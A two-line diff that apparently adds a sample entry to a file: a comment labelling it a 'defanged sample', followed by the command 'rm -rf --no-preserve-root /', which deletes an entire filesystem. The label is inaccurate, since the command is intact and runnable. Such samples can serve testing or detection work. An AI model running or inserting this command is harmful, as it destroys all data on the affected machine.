@@ -1,0 +1,2 @@
+# defanged sample
+rm -rf --no-preserve-root /
